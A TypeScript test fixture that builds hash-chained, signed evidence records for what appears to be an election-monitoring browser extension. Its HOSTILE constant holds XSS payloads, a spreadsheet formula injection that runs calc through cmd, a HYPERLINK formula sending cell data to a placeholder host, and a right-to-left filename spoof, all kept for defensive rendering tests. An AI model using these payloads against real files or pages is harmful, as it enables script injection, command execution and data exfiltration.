import type { BundleSource } from '@/lib/bundle/build';
import { mockScreenshot } from '@/lib/bundle/sample-png';
import { deviceSigner } from '@/lib/bundle/signer';
import type { DeviceKey } from '@/lib/crypto/device-key';
import type { AuditEntry } from '@/lib/evidence/audit';
import { sha256Hex } from '@/lib/evidence/canonical';
import { chainHash } from '@/lib/evidence/chain';
import { type Evidence, sealedBody } from '@/lib/evidence/schema';
import type { PostSnapshot } from '@/lib/platforms/snapshot';
import { xSnapshot } from '../capture/snapshot-factory';

// Findings made by hand, fully deterministic (fixed ids, times, pictures): for hostile-text tests and
// the frozen rendering of format v1.

export const HOSTILE = {
  script: '<script>alert("xss")</script><img src=x onerror=alert(1)>"><svg onload=alert(2)>\'',
  formula: "=cmd|' /C calc'!A0",
  hyperlink: '=HYPERLINK("https://jahat.example/?d="&A1,"klik")',
  rtl: 'Dukung \u202Egnp.exe\u202C paslon \u2067اختبار\u2069 02',
  megabyte: `${'Teks panjang sekali, '.repeat(50_000)}AKHIR`,
};

export interface FindingSpec {
  post?: Partial<PostSnapshot>;
  note?: string;
  category?: string;
}

/** Findings #1…#n chained from null, each with one small PNG; `pngs` by screenshot id. */
export async function sealedFindings(specs: readonly FindingSpec[]) {
  const records: Evidence[] = [];
  const pngs = new Map<string, Uint8Array>();
  let prevHash: string | null = null;
  for (const [i, spec] of specs.entries()) {
    const n = i + 1;
    const id = `temuan-${String(n).padStart(4, '0')}`;
    const png = mockScreenshot(64, 40, [24, 119, 242], n);
    pngs.set(`${id}-post`, png);
    const body: Omit<Evidence, 'hash'> = {
      schemaVersion: 1,
      id,
      seq: n,
      clickId: `klik-${n}`,
      dedupeKey: `https://x.com/contoh/status/${n}`,
      capturedAt: `2026-11-21T09:${String(10 + n).padStart(2, '0')}:00.000+07:00`,
      post: xSnapshot({ url: `https://x.com/contoh/status/${n}`, postId: String(n), ...spec.post }),
      officer: { name: 'Rina Marlina', nip: '198704122010012003', unit: 'Bawaslu Kabupaten Contoh' },
      category: spec.category ?? 'posting',
      note: spec.note ?? '',
      screenshots: [
        {
          id: `${id}-post`,
          role: 'post',
          mime: 'image/png',
          width: 64,
          height: 40,
          size: png.length,
          sha256: await sha256Hex(png),
          clipped: false,
          slices: 1,
        },
      ],
      missing: [],
      version: 1,
      versionOf: null,
      changed: [],
      provenance: {
        extensionVersion: '0.1.0',
        adapterVersion: 'x-1',
        browser: 'Chrome 140',
        os: 'Linux',
        devicePixelRatio: 1,
      },
      prevHash,
      exportedAt: null,
    };
    const record: Evidence = { ...body, hash: await chainHash(sealedBody(body)) };
    records.push(record);
    prevHash = record.hash;
  }
  return { records, pngs };
}

/** An audit entry editing finding `record`, chained as the device does. */
export async function editEntry(
  record: Evidence,
  changes: AuditEntry['changes'],
  seq = 1,
  prevHash: string | null = null,
) {
  const body = {
    seq,
    at: '2026-11-21T12:00:00.000+07:00',
    action: 'edit' as const,
    evidenceId: record.id,
    evidenceSeq: record.seq,
    reason: 'identifikasi',
    changes,
    prevHash,
  };
  return { ...body, hash: await chainHash(body) } satisfies AuditEntry;
}

export function handMadeSource(
  key: DeviceKey,
  found: Awaited<ReturnType<typeof sealedFindings>>,
  extra: Partial<BundleSource> = {},
): BundleSource {
  return {
    officer: { name: 'Rina Marlina', nip: '198704122010012003', unit: 'Bawaslu Kabupaten Contoh' },
    office: { name: 'Bawaslu Provinsi Contoh' },
    extensionVersion: '0.1.0',
    createdAt: new Date('2026-11-21T10:00:00Z'),
    records: found.records,
    screenshot: async (id) => found.pngs.get(id) ?? null,
    tombstones: [],
    audit: [],
    previous: null,
    signer: deviceSigner(key),
    ...extra,
  };
}
